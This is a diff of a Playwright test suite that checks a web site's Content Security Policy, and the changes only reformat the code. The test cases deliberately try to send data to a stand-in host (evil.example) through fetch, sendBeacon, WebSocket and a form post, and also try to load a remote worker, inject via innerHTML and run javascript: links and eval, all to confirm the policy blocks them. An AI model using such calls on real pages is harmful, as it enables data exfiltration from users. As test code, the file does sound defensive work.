@@ -21,18 +21,24 @@ describe('the policy in the pages', () => {
         const [charset, policy] = inHead;
         const good = charset?.properties['charSet'] && String(policy?.properties['httpEquiv']) === 'content-security-policy';
         const again = all(page, 'meta[http-equiv=content-security-policy]').length > 1;
-        return [!good && 'has no policy right behind its character set', again && 'has two policies'].filter(Boolean).map((fault) => `${place(page)}: ${fault}`);
+        return [!good && 'has no policy right behind its character set', again && 'has two policies']
+          .filter(Boolean)
+          .map((fault) => `${place(page)}: ${fault}`);
       }),
     );
   });
 
   it('finds nothing to refuse in the markup: no style and no event attributes, no javascript: link', () => {
     expectNone(
-      pages.flatMap((page) => all(page, '*').flatMap(({ tagName, properties }) =>
-        Object.entries(properties)
-          .filter(([name, value]) => name === 'style' || name === 'srcDoc' || /^on[A-Z]/.test(name) || /^\s*javascript:/i.test(String(value)))
-          .map(([name]) => `${place(page)}: <${tagName} ${name}>`),
-      )),
+      pages.flatMap((page) =>
+        all(page, '*').flatMap(({ tagName, properties }) =>
+          Object.entries(properties)
+            .filter(
+              ([name, value]) => name === 'style' || name === 'srcDoc' || /^on[A-Z]/.test(name) || /^\s*javascript:/i.test(String(value)),
+            )
+            .map(([name]) => `${place(page)}: <${tagName} ${name}>`),
+        ),
+      ),
     );
   });
 
@@ -77,17 +83,20 @@ describe('under the policy', () => {
     });
   });
 
-  it.each(['searching', 'putting a group on the board', 'reading codes with the camera'])('%s also works with the headers of a host', async (name) => {
-    await onOnePage({ viewport: wide, acceptDownloads: true }, async (tab) => {
-      const watched = await watch(tab, origin());
-      await tab.route('**/*', async (route) => {
-        const response = await route.fetch();
-        await route.fulfill({ response, headers: { ...response.headers(), ...securityHeaders } });
+  it.each(['searching', 'putting a group on the board', 'reading codes with the camera'])(
+    '%s also works with the headers of a host',
+    async (name) => {
+      await onOnePage({ viewport: wide, acceptDownloads: true }, async (tab) => {
+        const watched = await watch(tab, origin());
+        await tab.route('**/*', async (route) => {
+          const response = await route.fetch();
+          await route.fulfill({ response, headers: { ...response.headers(), ...securityHeaders } });
+        });
+        await journeys[name]!(tab);
+        expect(watched).toEqual(nothing);
       });
-      await journeys[name]!(tab);
-      expect(watched).toEqual(nothing);
-    });
-  });
+    },
+  );
 });
 
 describe('whatever gets into a page', () => {
@@ -131,20 +140,48 @@ describe('whatever gets into a page', () => {
     ['connect-src', 'fetch', () => fetch('https://evil.example/?note')],
     ['connect-src', 'beacon', () => navigator.sendBeacon('https://evil.example/', 'note')],
     ['connect-src', 'socket', () => void new WebSocket('wss://evil.example/')],
-    ['require-trusted-types-for', 'innerHTML', () => { document.body.innerHTML = '<b>x</b>'; }],
-    ['require-trusted-types-for', 'script text', () => { document.head.append(Object.assign(document.createElement('script'), { text: 'ranInside(3)' })); }],
+    [
+      'require-trusted-types-for',
+      'innerHTML',
+      () => {
+        document.body.innerHTML = '<b>x</b>';
+      },
+    ],
+    [
+      'require-trusted-types-for',
+      'script text',
+      () => {
+        document.head.append(Object.assign(document.createElement('script'), { text: 'ranInside(3)' }));
+      },
+    ],
     ['require-trusted-types-for', 'worker', () => void new Worker('https://evil.example/w.js')],
-    ['trusted-types', 'a policy of its own', () => void (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }).trustedTypes.createPolicy('evil', {})],
-    ['form-action', 'a form', () => {
-      const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post' });
-      document.body.append(form);
-      form.submit();
-    }],
-    ['script-src-elem', 'a javascript: link', () => {
-      const link = Object.assign(document.createElement('a'), { href: 'javascript:ranInside(4)' });
-      document.body.append(link);
-      link.click();
-    }],
+    [
+      'trusted-types',
+      'a policy of its own',
+      () =>
+        void (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }).trustedTypes.createPolicy(
+          'evil',
+          {},
+        ),
+    ],
+    [
+      'form-action',
+      'a form',
+      () => {
+        const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post' });
+        document.body.append(form);
+        form.submit();
+      },
+    ],
+    [
+      'script-src-elem',
+      'a javascript: link',
+      () => {
+        const link = Object.assign(document.createElement('a'), { href: 'javascript:ranInside(4)' });
+        document.body.append(link);
+        link.click();
+      },
+    ],
   ] as [string, string, () => unknown][])('is stopped by %s when a script of ours is led to %s', async (directive, _what, act) => {
     await onOnePage({}, async (tab) => {
       const watched = await watch(tab, origin());
@@ -159,10 +196,20 @@ describe('whatever gets into a page', () => {
     await onOnePage({}, async (tab) => {
       const watched = await watch(tab, origin());
       await tab.goto(at('/privacy/'));
-      const refused = await tab.evaluate(() => new Promise((told) => {
-        document.addEventListener('securitypolicyviolation', () => told(true));
-        setTimeout(() => { try { (0, eval)('ranInside(5)'); told(false); } catch { told(true); } });
-      }));
+      const refused = await tab.evaluate(
+        () =>
+          new Promise((told) => {
+            document.addEventListener('securitypolicyviolation', () => told(true));
+            setTimeout(() => {
+              try {
+                (0, eval)('ranInside(5)');
+                told(false);
+              } catch {
+                told(true);
+              }
+            });
+          }),
+      );
       expect(refused).toBe(true);
       expect(watched.ran).toEqual([]);
     });
